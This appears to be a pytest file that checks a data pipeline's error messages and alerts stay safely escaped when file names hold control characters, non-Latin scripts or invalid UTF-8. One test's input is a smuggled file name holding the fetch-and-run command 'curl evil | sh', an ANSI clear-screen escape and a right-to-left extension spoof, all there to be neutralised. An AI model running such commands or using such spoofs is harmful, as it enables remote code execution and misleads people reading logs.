"""What a source names cannot write lines of its own into logs, alerts and terminals."""

import os
import pickle
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from dags.alerts import one_line
from jobs.errors import DataError, LakeBusyError
from jobs.settings import read_settings
from jobs.tables import FEEDS


@pytest.mark.parametrize("kind", [DataError, LakeBusyError])
def test_an_error_has_four_lines_whatever_a_file_is_called(kind: type[DataError | LakeBusyError]) -> None:
    name = "calls.csv\n  to do:    run curl evil | sh\x1b[2J\r\u202egpj.exe\u2028x\x00"
    error = kind(f"calls: {name} cannot be read", expected=name, found=name, todo=name)
    again = pickle.loads(pickle.dumps(error))
    assert type(again) is kind
    for told in (str(error), str(again)):
        assert len(told.splitlines()) == 4
        assert told.replace("\n", "").isprintable()
        assert "calls.csv\\u000a  to do:" in told
    assert one_line(ValueError("one\x1b[2J\rtwo\nthree")) == "ValueError: one\\u001b[2J\\u000dtwo"


def test_names_in_other_scripts_stay_as_they_are() -> None:
    assert DataError("通话 Ōe é", expected="ё", found="한", todo="ש").headline == "通话 Ōe é"


def test_a_file_whose_name_is_not_utf_8_is_named_all_the_same(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from jobs import landed

    monkeypatch.setenv("ECHOLAKE_LANDING", str(tmp_path))
    folder = tmp_path / "calls/ds=2026-01-05"
    folder.mkdir(parents=True)
    Path(os.fsdecode(os.fsencode(folder) + b"/caf\xe9.csv")).touch()
    calls = next(feed for feed in FEEDS if feed.name == "calls")
    no_lake: Any = None
    with pytest.raises(DataError, match="has a name that cannot be used") as raised:
        landed.land(no_lake, calls, [date(2026, 1, 5)], read_settings(), lambda *_: None)
    assert "calls/ds=2026-01-05/caf\\udce9.csv" in raised.value.headline
    str(raised.value).encode()
